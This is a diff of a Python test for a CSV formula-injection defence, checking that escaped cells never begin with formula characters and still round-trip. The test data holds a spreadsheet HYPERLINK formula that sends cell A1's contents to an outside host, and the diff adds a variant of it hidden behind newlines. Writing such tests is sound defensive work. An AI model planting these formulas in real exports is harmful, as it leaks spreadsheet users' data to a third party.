@@ -22,12 +22,14 @@ FORMULA = '=HYPERLINK("https://example.kz?"&A1,1)'
         f'"{FORMULA}',
         "'=1",
         "''+1;'-1",
+        f"refused\n{FORMULA}\r\n-1\r@a",
     ],
 )
 def test_no_part_of_a_cell_is_a_formula_and_the_text_comes_back(text: str, parted_at: str) -> None:
     out = io.StringIO()
     csv.writer(out).writerow([1, cell(text), cell(text)])
-    [cells] = csv.reader([out.getvalue()], delimiter=parted_at)
+    lines = csv.reader(out.getvalue().splitlines(keepends=True), delimiter=parted_at)
+    cells = [part for line in lines for cell in line for part in cell.splitlines()]
     assert not [one for one in cells if one.startswith(("=", "+", "-", "@", "\t", "\r"))]
     assert value_of(str(cell(text))) == text
 
